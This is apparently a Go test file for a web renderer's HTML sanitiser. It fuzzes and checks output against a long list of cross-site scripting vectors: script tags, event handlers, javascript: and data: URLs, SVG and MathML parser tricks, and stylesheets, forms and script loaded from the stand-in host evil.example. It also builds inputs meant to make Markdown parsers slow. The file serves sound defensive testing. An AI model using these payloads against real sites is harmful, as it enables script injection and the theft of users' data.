package render

import (
	"fmt"
	"net/url"
	"slices"
	"strings"
	"testing"
	"time"

	"golang.org/x/net/html"
)

// vectors are ways to get script, style, frames, forms or other hosts' data
// into a page. The harmless rest of each may stay.
var vectors = []string{
	`<script>alert(1)</script>`,
	`<SCRIPT SRC=//evil.example/x.js></SCRIPT>`,
	`a <script>alert(1)</script> in a line`,
	`<scr<script>ipt>alert(1)</scr</script>ipt>`,
	`<script/x>alert(1)</script>`,
	"<script\n>alert(1)</script\n>",
	`<<script>alert(1)//<</script>`,
	`<img src=x onerror=alert(1)>`,
	`<img src=x onerror="alert(1)"`,
	`<img/src="x"/onerror=alert(1)>`,
	"<img src=x\nonerror\n=\nalert(1)>",
	`<img src="javascript:alert(1)">`,
	`<img """><script>alert(1)</script>">`,
	`<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
	`<img src="data:text/html,<script>alert(1)</script>">`,
	`<img srcset="x 1x, javascript:alert(1) 2x">`,
	`<a href="javascript:alert(1)">x</a>`,
	`<a href="JaVaScRiPt:alert(1)">x</a>`,
	`<a href=" javascript:alert(1)">x</a>`,
	"<a href=\"java\tscript:alert(1)\">x</a>",
	`<a href="java&#10;script:alert(1)">x</a>`,
	`<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&colon;alert(1)">x</a>`,
	`<a href="&#x01;javascript:alert(1)">x</a>`,
	`<a href="vbscript:msgbox(1)">x</a>`,
	`<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>`,
	`<a href="data:image/png;base64,iVBORw0KGgo=">x</a>`,
	`<a href="blob:https://evil.example/1">x</a>`,
	`<a href="file:///etc/passwd">x</a>`,
	`<a href=x onclick=alert(1) onmouseover='alert(1)'>x</a>`,
	`<a href="https://evil.example" target="_top" ping="https://evil.example/p">x</a>`,
	`[x](javascript:alert(1))`,
	`[x](JAVASCRIPT:alert(1))`,
	`[x](javascript&colon;alert(1))`,
	`[x](<javascript:alert(1)>)`,
	"[x](java\\\nscript:alert(1))",
	`[x][r]` + "\n\n[r]: javascript:alert(1) 'x\" onclick=alert(1)'",
	`![x](javascript:alert(1))`,
	`![" onerror="alert(1)](x)`,
	`[x](/a "\" onclick=alert(1) x=\"")`,
	`<javascript:alert(1)>`,
	`<style>@import url(//evil.example/x.css);</style>`,
	`<p style="background:url(//evil.example/x)">x</p>`,
	`<link rel=stylesheet href=//evil.example/x.css>`,
	`<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
	`<base href="//evil.example/">`,
	`<iframe src="javascript:alert(1)"></iframe>`,
	`<iframe srcdoc="<script>alert(1)</script>"></iframe>`,
	`<object data="javascript:alert(1)"></object>`,
	`<embed src="//evil.example/x.swf">`,
	`<form action="//evil.example"><input name=password><button formaction="javascript:alert(1)">x</button></form>`,
	`<isindex action="javascript:alert(1)">`,
	`<svg onload=alert(1)>`,
	`<svg><script>alert(1)</script></svg>`,
	`<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>`,
	`<svg><animate attributeName=href values="javascript:alert(1)"/></svg>`,
	`<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">`,
	`<math href="javascript:alert(1)">x</math>`,
	`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`,
	`<title></title><img src=x onerror=alert(1)>`,
	`<textarea></textarea><img src=x onerror=alert(1)>`,
	`<xmp><img src=x onerror=alert(1)></xmp>`,
	`<plaintext><img src=x onerror=alert(1)>`,
	`<template><img src=x onerror=alert(1)></template>`,
	`<details open ontoggle=alert(1)>x</details>`,
	`<video src=x onerror=alert(1)><source onerror=alert(1)></video>`,
	`<audio src=x onerror=alert(1)>`,
	`<body onload=alert(1)>`,
	`<html><head><script>alert(1)</script></head><body background="javascript:alert(1)">x`,
	`<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>`,
	`<marquee onstart=alert(1)>x</marquee>`,
	`<select onfocus=alert(1) autofocus><option>x</select>`,
	`<!--><img src=x onerror=alert(1)>-->`,
	`<!-- --!><img src=x onerror=alert(1)>`,
	`<![CDATA[<img src=x onerror=alert(1)>]]>`,
	`<?xml version="1.0"?><script>alert(1)</script>`,
	`<!DOCTYPE x [<!ENTITY y "<script>alert(1)</script>">]>&y;`,
	"```html\" onclick=alert(1)\n<script>alert(1)</script>\n```",
	`<code class="language-x onclick=alert(1)">x</code>`,
	`<div id="_main" class="preview">x</div>`,
	`</div></article></main><header class="site">x`,
	`{{ "<script>alert(1)</script>" }}{% raw %}<img src=x onerror=alert(1)>{% endraw %}`,
	"<img src=x onerror=\x00alert(1)>",
	"<scr\x00ipt>alert(1)</scr\x00ipt>",
	"<\xff\xfescript>alert(1)</script>",
	`<p title='"><img src=x onerror=alert(1)>'>x</p>`,
	"<a href='x' title=`onclick=alert(1)`>x</a>",
}

var allowedAttributes = []string{
	"align", "alt", "aria-label", "class", "colspan", "datetime", "dir", "height", "href", "id", "lang",
	"loading", "open", "rel", "reversed", "role", "rowspan", "scope", "span", "src", "start", "tabindex",
	"title", "type", "value", "width",
}

var forbiddenElements = []string{
	"applet", "audio", "base", "body", "button", "embed", "form", "frame", "frameset", "head", "html", "iframe",
	"input", "link", "main", "math", "meta", "noscript", "object", "option", "plaintext", "script", "select",
	"source", "style", "svg", "template", "textarea", "title", "video", "xmp",
}

// harm says what is wrong with a body's HTML, if anything: what it reads is
// the HTML as a browser would, not the text, since prose may mention a script.
func harm(out, base string) error {
	if strings.Contains(strings.ToLower(out), "<script") {
		return fmt.Errorf("has <script")
	}
	open := []string{}
	z := html.NewTokenizer(strings.NewReader(out))
	for {
		switch z.Next() {
		case html.ErrorToken:
			if len(open) > 0 {
				return fmt.Errorf("leaves %q open", open)
			}
			return nil
		case html.CommentToken, html.DoctypeToken:
			return fmt.Errorf("has a comment or doctype: %s", z.Token())
		case html.StartTagToken, html.SelfClosingTagToken:
			t := z.Token()
			if slices.Contains(forbiddenElements, t.Data) {
				return fmt.Errorf("has an element it may not: %s", t)
			}
			if err := harmfulAttribute(t, base); err != nil {
				return err
			}
			if !slices.Contains([]string{"br", "hr", "wbr", "img", "col"}, t.Data) {
				open = append(open, t.Data)
			}
		case html.EndTagToken:
			t := z.Token()
			if len(open) == 0 || open[len(open)-1] != t.Data {
				return fmt.Errorf("closes %q while %q are open", t.Data, open)
			}
			open = open[:len(open)-1]
		}
	}
}

func harmfulAttribute(t html.Token, base string) error {
	for _, a := range t.Attr {
		if !slices.Contains(allowedAttributes, a.Key) {
			return fmt.Errorf("has an attribute it may not: %s", t)
		}
		if a.Key == "id" && strings.HasPrefix(a.Val, ownID) {
			return fmt.Errorf("takes an id of the page: %s", t)
		}
		if a.Key != "href" && a.Key != "src" {
			continue
		}
		u, err := url.Parse(a.Val)
		if err != nil {
			return fmt.Errorf("has an unreadable URL: %s", t)
		}
		schemes := []string{"", "http", "https", "mailto", "tel"}
		if a.Key == "src" {
			schemes = []string{"", "http", "https", "data"}
		}
		if !slices.Contains(schemes, u.Scheme) || u.Scheme == "data" && !strings.HasPrefix(a.Val, "data:image/") {
			return fmt.Errorf("has a URL that may act: %s", t)
		}
		if u.Scheme == "" && u.Host == "" && a.Val[0] != '#' {
			here := (&url.URL{Scheme: "https", Host: "here.example", Path: "/"}).ResolveReference(u)
			if !strings.HasPrefix(here.Path, base+"/") {
				return fmt.Errorf("leaves %s: %s", base, t)
			}
		}
	}
	return nil
}

func TestBodyLeavesNothingOfAnAttackThatCouldAct(t *testing.T) {
	r := New()
	for _, v := range vectors {
		for _, body := range []string{v, "word " + v, "> - " + v, "<div>\n" + v, "| a |\n|---|\n| " + v + " |"} {
			out := string(r.Body(previewView(), Item{Address: "/posts/x", Body: body}))
			if err := harm(out, "/preview/TOKEN"); err != nil {
				t.Errorf("%q %v\nin %s", body, err, out)
			}
		}
	}
}

func FuzzBodyIsNeverHarmful(f *testing.F) {
	for _, v := range vectors {
		f.Add(v)
	}
	for _, c := range costly(2 << 10) {
		f.Add(c)
	}
	r := New()
	f.Fuzz(func(t *testing.T, body string) {
		start := time.Now()
		out := string(r.Body(previewView(), Item{Address: "/posts/x", Body: body}))
		if err := harm(out, "/preview/TOKEN"); err != nil {
			t.Errorf("%q %v\nin %s", body, err, out)
		}
		if took := time.Since(start); took > 5*time.Second {
			t.Errorf("%d bytes took %v", len(body), took)
		}
	})
}

// costly gives bodies of about n bytes that make Markdown parsers slow, each
// by another corner.
func costly(n int) map[string]string {
	out := map[string]string{}
	for _, s := range []string{
		"[", "]", "*", "_", "~", "~~a ", ">", "> ", "> - ", "`", "`a", "(", "![", "!", "<", "<a", "<?", "<!A ", "<!--",
		"&", "&#", "\\", "- ", "* ", "+ - ", "1. ", "1) ", "#", "# a\n", "|", "|a", "a|b\n-|-\n", "*a ", "*a_ ", "*a **a ",
		"[a](", "[a](b", "[a](<b", "[*a](", "![[]()", "[[a]", "[]", "[a][", "[a]:b\n", "[^a]", "[^", ": ", "\n: ", "a\n: b\n",
		"www.a", "http://", "a@", "a@a.a ", "- [ ] ", "    a\n", "```\n", "<div>", "<div>\n", "</div>", "<b>", "<table><td>",
		"<a href=x>", "<pre>", "<a b='", "\"", "a\\\n", "{{", "---\n", "a\n---\n", "[x](y \"", "***a ", "[a][b]", "> a\n\n", "\n",
		"<svg>", "<title>", "<!-- a", "<script>", "<details><summary>", "[^1]: a\n\n", "&lt;", "\u202e", "<ul><li>", "\x00",
	} {
		out["repeated "+s] = strings.Repeat(s, n/len(s))
	}
	halves := func(a, b string) string {
		return strings.Repeat(a, n/2/len(a)) + "\n" + strings.Repeat(b, n/2/len(b))
	}
	for _, h := range [][2]string{
		{"[", "]"}, {"[", "](a)"}, {"*a ", "a* "}, {"*a ", "a_ "}, {"- ", "\n"}, {"- ", "a\n"}, {">", "a\n"}, {"- ", ">\n"},
		{"<b>", "</i>"}, {"<a href=x>", "</b></a>"}, {"<div>", "</div>"}, {"> ", ">\n"}, {"1. ", "\n"}, {"<b><i>", "</b>"},
	} {
		out["halves "+h[0]+" "+h[1]] = halves(h[0], h[1])
	}
	var steps strings.Builder
	for i := 0; steps.Len() < n/2; i++ {
		steps.WriteString(strings.Repeat("  ", i) + "- a\n")
	}
	out["stairs of lists"] = steps.String() + strings.Repeat("\n", n/2)
	var shallow strings.Builder
	for i := range 40 {
		shallow.WriteString(strings.Repeat("  ", i) + "- a\n")
	}
	out["a few stairs, many blank lines"] = shallow.String() + strings.Repeat("\n", n)
	out["a shallow list, many blank lines"] = "- - a\n" + strings.Repeat("\n", n)
	out["quotes at the limit"] = strings.Repeat(strings.Repeat(">", maxNesting)+"a\n", n/(maxNesting+2))
	out["wide and long table"] = "|" + strings.Repeat("a|", n/8) + "\n|" + strings.Repeat("-|", n/8) + "\n" + strings.Repeat("a\n", n/4)
	out["table at the limit"] = "|" + strings.Repeat("a|", 200) + "\n|" + strings.Repeat("-|", 200) + "\n" + strings.Repeat("a\n", 240)
	out["one long address named often"] = "[a]: http://" + strings.Repeat("a", n/2) + "\n\n" + strings.Repeat("[a]", n/6)
	out["addresses at the limit"] = "[a]: http://" + strings.Repeat("a", n/4) + "\n\n" + strings.Repeat("[a]", 20)
	out["brackets at the limit"] = strings.Repeat("[a](b", 630) + strings.Repeat("b", max(0, n-3200))
	out["nested brackets at the limit"] = strings.Repeat("[", 10_000) + strings.Repeat("]", 10_000) + strings.Repeat("a", max(0, n-20_000))
	out["mixed titles"] = strings.Repeat("[a](b 'c [a](b \"c [a](b (c ", n/27)
	out["odd parentheses"] = strings.Repeat("[a](() ", n/7) + strings.Repeat("[a](()", n/60)
	out["emphasis at the limit"] = strings.Repeat("*a_ ", 7200)
	var ticks strings.Builder
	for i := 1; ticks.Len() < n; i++ {
		ticks.WriteString("e" + strings.Repeat("`", i))
	}
	out["runs of backticks"] = ticks.String()
	return out
}

func TestTheWorstBodyRendersWithinASecond(t *testing.T) {
	if testing.Short() {
		t.Skip("renders many megabytes")
	}
	allowed := time.Second
	if raceEnabled {
		allowed *= 10
	}
	r := New()
	for name, body := range costly(160 << 10) {
		// The best of five: the bound is the renderer's, not the machine's.
		best := time.Hour
		for range 5 {
			start := time.Now()
			out := r.Body(previewView(), Item{Address: "/posts/x", Body: body})
			best = min(best, time.Since(start))
			if len(out) > 16<<20 {
				t.Errorf("%s: %d bytes became %d", name, len(body), len(out))
			}
			if best <= allowed {
				break
			}
		}
		if best > allowed {
			t.Errorf("%s: took %v, want at most %v", name, best, allowed)
		} else if best > allowed/4 {
			t.Logf("%s: took %v", name, best)
		}
	}
}
